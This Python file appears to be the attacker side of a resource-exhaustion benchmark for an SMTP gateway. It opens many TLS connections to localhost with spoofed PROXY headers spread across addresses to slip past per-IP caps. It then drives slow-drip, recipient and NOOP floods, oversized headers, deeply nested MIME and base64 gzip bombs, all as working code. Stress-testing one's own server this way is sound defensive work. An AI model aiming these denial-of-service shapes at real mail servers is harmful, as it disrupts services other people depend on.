"""The attacker side of `make bench-exhaustion` (bench/exhaustion.py): each resource-exhaustion shape as raw SMTP
over real TLS, in a process of its own so that its client-side work (TLS, building 25 MB messages) is never measured
as the gateway's latency for the well-behaved client.

Every connection starts with a PROXY v1 header naming a source address in 198.18.0.0/15 (RFC 2544's benchmarking
range), at most PER_IP connections per address: the edge runs with PROXY_PROTOCOL=true and its default per-IP cap,
so the attack is spread over many clients the way a botnet would be, not stopped by the cap.

Driven over stdin/stdout, one JSON object per line:
  argv[1]   the Plan (JSON)
  stdout    {"prepared": true} once the messages are built; then, after "go" on stdin, {"ready": seconds} once every
            connection reached its attack state (or failed to); after "stop" on stdin, the Report.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import dataclasses
import gzip
import json
import os
import re
import resource
import ssl
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

PER_IP = 25  # half the edge's default MAX_CONNECTIONS_PER_IP (50)
RAMP_CONCURRENCY = 50  # connections being opened at once (the edge's listen backlog is 100)
LINE = 998  # the longest line RFC 5321 allows, CRLF excluded
_ENHANCED = re.compile(r"^[245]\.\d{1,3}\.\d{1,3}$")


@dataclass(frozen=True)
class Plan:
    shape: str
    connections: int
    smtp_port: int  # 465-style implicit TLS, PROXY header first
    ca_file: str
    message_bytes: int = 0  # big-headers, base64-bomb: the size on the wire (just under MESSAGE_SIZE_LIMIT)
    rcpts_per_transaction: int = 1000  # tiny-rcpts: RCPTs per transaction; noop-flood: NOOPs per write
    drip_interval: float = 1.0  # slow-drip: seconds between lines
    depth: int = 100  # nested-mime
    username: str = "demo@example.com"
    password: str = "demo-password"


@dataclass
class Report:
    shape: str
    intended: int
    established: int = 0  # connections that reached the attack state
    ramp_seconds: float = 0.0
    replies: Counter[str] = field(default_factory=Counter)  # replies to the attack's own commands
    ends: Counter[str] = field(default_factory=Counter)  # how each connection ended
    transactions: int = 0  # DATA replies received (or RCPT batches answered)
    bytes_sent: int = 0

    def to_json(self) -> str:
        # Not dataclasses.asdict: it rebuilds a Counter from (key, value) pairs, counting the pairs.
        return json.dumps({f.name: getattr(self, f.name) for f in dataclasses.fields(self)})

    @classmethod
    def from_json(cls, text: str) -> Report:
        data = json.loads(text)
        data["replies"] = Counter(data["replies"])
        data["ends"] = Counter(data["ends"])
        return cls(**data)


def source_ip(index: int) -> str:
    group = index // PER_IP
    return f"198.18.{group // 250}.{group % 250 + 1}"


def proxy_header(source: str, port: int, index: int = 0) -> bytes:
    return f"PROXY TCP4 {source} 127.0.0.1 {1024 + index % 60000} {port}\r\n".encode()


def reply_key(line: str) -> str:
    """'452 4.5.3 Too many recipients' -> '452 4.5.3'; '354 End data' -> '354'."""
    parts = line.split(" ", 2)
    if len(parts) > 1 and _ENHANCED.match(parts[1]):
        return f"{parts[0]} {parts[1]}"
    return parts[0][:3]


class Closed(Exception):
    """The edge closed the connection; `last` is the last reply it sent (or '' if none)."""

    def __init__(self, last: str) -> None:
        super().__init__(last)
        self.last = last


class Session:
    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.last = ""

    @classmethod
    async def open(cls, plan: Plan, tls: ssl.SSLContext, index: int, *, source: str | None = None) -> Session:
        """Connected, PROXY header sent, TLS up, greeted and EHLO answered (raises Closed on a refusal)."""
        source = source or source_ip(index)
        reader, writer = await asyncio.open_connection("127.0.0.1", plan.smtp_port, limit=1 << 20)
        writer.write(proxy_header(source, plan.smtp_port, index))
        await writer.start_tls(tls, server_hostname="localhost")
        session = cls(reader, writer)
        if not (await session.reply()).startswith("220 "):
            raise Closed(session.last)
        await session.expect(b"EHLO attacker.test", "250")
        return session

    async def reply(self) -> str:
        while True:
            line = await self.reader.readline()
            if not line.endswith(b"\n"):
                raise Closed(self.last)
            self.last = line.decode(errors="replace").rstrip()
            if self.last[3:4] != "-":
                return self.last

    async def command(self, line: bytes) -> str:
        self.writer.write(line + b"\r\n")
        return await self.reply()

    async def expect(self, line: bytes, code: str) -> str:
        answer = await self.command(line)
        if not answer.startswith(code):
            raise Closed(answer)  # an unexpected refusal during setup ends the connection's part in the attack
        return answer

    async def login(self, plan: Plan) -> None:
        blob = base64.b64encode(f"\0{plan.username}\0{plan.password}".encode())
        await self.expect(b"AUTH PLAIN " + blob, "235")

    def abort(self) -> None:
        transport = self.writer.transport
        if not transport.is_closing():
            transport.abort()


class Attack:
    def __init__(self, plan: Plan) -> None:
        self.plan = plan
        self.tls = ssl.create_default_context(cafile=plan.ca_file)
        self.report = Report(plan.shape, plan.connections)
        self.ramp = asyncio.Semaphore(RAMP_CONCURRENCY)
        self.tried = 0
        self.all_tried = asyncio.Event()
        self.message = build_message(plan)

    def _tried(self) -> None:
        self.tried += 1
        if self.tried == self.plan.connections:
            self.all_tried.set()

    async def connection(self, index: int, behaviour: Callable[[Session, Callable[[], None]], Awaitable[None]]) -> None:
        """One attacking connection: opened (at most RAMP_CONCURRENCY at a time), then `behaviour` until cancelled
        (the attack stops) or the edge closes it. `established()` marks the attack state reached."""
        session: Session | None = None
        counted = False

        def established() -> None:
            nonlocal counted
            if not counted:
                counted = True
                self.report.established += 1
                self._tried()

        try:
            async with self.ramp:
                session = await Session.open(self.plan, self.tls, index)
                if self.plan.shape not in ("idle", "noop-flood"):
                    await session.login(self.plan)
            await behaviour(session, established)
            self.report.ends["ended by the attacker"] += 1
        except asyncio.CancelledError:
            self.report.ends["open when the attack stopped" if counted else "still opening when stopped"] += 1
        except Closed as closed:
            self.report.ends[f"closed by the edge after {reply_key(closed.last) if closed.last else 'no reply'}"] += 1
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError) as error:
            self.report.ends[type(error).__name__] += 1
        finally:
            if not counted:
                self._tried()
            if session is not None:
                session.abort()

    # The shapes. Each behaviour calls established() once it holds what it came for, then loops until cancelled.

    async def idle(self, session: Session, established: Callable[[], None]) -> None:
        established()
        await session.reply()  # nothing more is said; returns (or raises Closed) only if the edge speaks or closes
        raise Closed(session.last)

    async def slow_drip(self, session: Session, established: Callable[[], None]) -> None:
        await session.expect(b"MAIL FROM:<bench@example.com>", "250")
        await session.expect(b"RCPT TO:<sink@example.net>", "250")
        await session.expect(b"DATA", "354")
        established()
        closed = asyncio.ensure_future(session.reply())  # the edge says nothing during DATA unless it gives up
        try:
            line = 0
            while not closed.done():
                text = f"X-Drip-{line:06d}: {'d' * 60}\r\n".encode()
                session.writer.write(text)
                self.report.bytes_sent += len(text)
                line += 1
                await asyncio.wait([closed], timeout=self.plan.drip_interval)
            self.report.replies[reply_key(closed.result())] += 1
            raise Closed(session.last)
        finally:
            closed.cancel()

    async def tiny_rcpts(self, session: Session, established: Callable[[], None]) -> None:
        """MAIL, then many RCPTs pipelined in one write, then RSET: the envelope as a memory and CPU sink."""
        batch = b"MAIL FROM:<bench@example.com>\r\n" + b"".join(
            b"RCPT TO:<r%d@example.net>\r\n" % i for i in range(self.plan.rcpts_per_transaction)
        )
        established()
        while True:
            session.writer.write(batch + b"RSET\r\n")
            self.report.bytes_sent += len(batch) + 6
            for _ in range(self.plan.rcpts_per_transaction + 2):
                self.report.replies[reply_key(await session.reply())] += 1
            self.report.transactions += 1

    async def noop_flood(self, session: Session, established: Callable[[], None]) -> None:
        """Never logged in: NOOPs pipelined in one write, what any client on the internet may send."""
        batch = b"NOOP\r\n" * self.plan.rcpts_per_transaction
        established()
        while True:
            session.writer.write(batch)
            self.report.bytes_sent += len(batch)
            for _ in range(self.plan.rcpts_per_transaction):
                self.report.replies[reply_key(await session.reply())] += 1
            self.report.transactions += 1

    async def messages(self, session: Session, established: Callable[[], None]) -> None:
        """The shape's message, back to back on one session (a fresh Message-ID each time: a resend of the same
        message would be recognised as one)."""
        established()
        sent = 0
        while True:
            await session.expect(b"MAIL FROM:<bench@example.com>", "250")
            await session.expect(b"RCPT TO:<sink@example.net>", "250")
            await session.expect(b"DATA", "354")
            head = f"Message-ID: <{id(session):x}.{sent}@attacker.test>\r\n".encode()
            session.writer.write(head)
            session.writer.write(self.message)
            await session.writer.drain()
            self.report.bytes_sent += len(head) + len(self.message)
            sent += 1
            self.report.replies[reply_key(await session.reply())] += 1
            self.report.transactions += 1

    async def run(self, go: asyncio.Event, stop: asyncio.Event) -> Report:
        behaviour = {
            "idle": self.idle,
            "slow-drip": self.slow_drip,
            "tiny-rcpts": self.tiny_rcpts,
            "noop-flood": self.noop_flood,
        }.get(self.plan.shape, self.messages)
        await go.wait()
        started = time.perf_counter()
        tasks = [asyncio.create_task(self.connection(i, behaviour)) for i in range(self.plan.connections)]
        ramp = asyncio.create_task(self.all_tried.wait())
        await asyncio.wait([ramp, asyncio.create_task(stop.wait())], return_when=asyncio.FIRST_COMPLETED)
        self.report.ramp_seconds = time.perf_counter() - started
        if ramp.done():
            emit({"ready": self.report.ramp_seconds})
        await stop.wait()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        return self.report


def build_message(plan: Plan) -> bytes:
    """The shape's message after its Message-ID line, dot-stuffed, ending with the end-of-data line."""
    if plan.shape == "big-headers":
        return big_headers(plan.message_bytes)
    if plan.shape == "nested-mime":
        return nested(plan.depth)
    if plan.shape == "base64-bomb":
        return bomb(plan.message_bytes)
    return b""


def big_headers(size: int) -> bytes:
    """A header block filling the message size limit: 998-octet X- header lines, then a one-line body."""
    head = b"From: bench@example.com\r\nTo: sink@example.net\r\nSubject: big headers\r\n"
    tail = b"\r\nbody\r\n.\r\n"
    line = b"X-Pad-%06d: " + b"h" * (LINE - 14) + b"\r\n"
    count = (size - len(head) - len(tail) - 200) // len(line % 0)
    return head + b"".join(line % i for i in range(count)) + tail


def nested(depth: int) -> bytes:
    """`depth` levels of multipart/mixed, each with a short text part beside the next level."""
    opening, closing = [], []
    for level in range(depth):
        opening.append(
            f'Content-Type: multipart/mixed; boundary="n{level}"\r\n\r\n'
            f"--n{level}\r\nContent-Type: text/plain\r\n\r\nlevel {level}\r\n--n{level}\r\n"
        )
        closing.append(f"\r\n--n{level}--\r\n")
    inner = "Content-Type: text/plain\r\n\r\ninnermost\r\n"
    body = "".join(opening) + inner + "".join(reversed(closing))
    head = "From: bench@example.com\r\nTo: sink@example.net\r\nSubject: nested\r\nMIME-Version: 1.0\r\n"
    return f"{head}{body}.\r\n".encode()


def bomb(size: int) -> bytes:
    """About `size` bytes on the wire: two base64 gzip attachments, each under the edge's decoded-attachment cap
    once decoded but each a gzip bomb (concatenated members of 10 MiB of zeros: ~1000 times its size once
    decompressed). The edge decompresses nothing; this is what a naive scanner would choke on."""
    member = gzip.compress(bytes(10 * 1024 * 1024), compresslevel=9, mtime=0)
    per_attachment = (size - 4096) * 57 // 78 // 2  # base64 in 76-column lines with CRLF: 78 octets per 57
    blob = (member * (per_attachment // len(member) + 1))[:per_attachment]
    # Whole members only: a truncated last member would be a corrupt file, not a bomb.
    blob = blob[: len(blob) - len(blob) % len(member)]
    expands = per_attachment // len(member) * 10 * 1024 * 1024
    encoded = base64.encodebytes(blob).replace(b"\n", b"\r\n")
    parts = [
        b"From: bench@example.com\r\nTo: sink@example.net\r\nSubject: base64 bomb\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n'
        + f"two gzip files that expand to {2 * expands / 2**30:.0f} GiB\r\n".encode()
    ]
    for index in range(2):
        parts.append(
            b"--b\r\nContent-Type: application/gzip\r\nContent-Transfer-Encoding: base64\r\n"
            + f'Content-Disposition: attachment; filename="bomb{index}.gz"\r\n\r\n'.encode()
            + encoded
        )
    parts.append(b"--b--\r\n.\r\n")
    return b"".join(parts)


def raise_fd_limit(needed: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < needed:
        resource.setrlimit(
            resource.RLIMIT_NOFILE, (min(needed, hard) if hard != resource.RLIM_INFINITY else needed, hard)
        )


def emit(obj: object) -> None:
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


async def main(plan: Plan) -> None:
    loop = asyncio.get_running_loop()
    go, stop = asyncio.Event(), asyncio.Event()
    attack = Attack(plan)
    emit({"prepared": True})

    fd = sys.stdin.fileno()

    def command() -> None:
        words = os.read(fd, 1024).split()
        if b"go" in words:
            go.set()
        if b"stop" in words or not words:  # EOF: the bench is gone, stop too
            stop.set()
            go.set()
            loop.remove_reader(fd)

    loop.add_reader(fd, command)
    report = await attack.run(go, stop)
    emit({"report": json.loads(report.to_json())})


if __name__ == "__main__":
    the_plan = Plan(**json.loads(sys.argv[1]))
    raise_fd_limit(the_plan.connections + 256)
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main(the_plan))
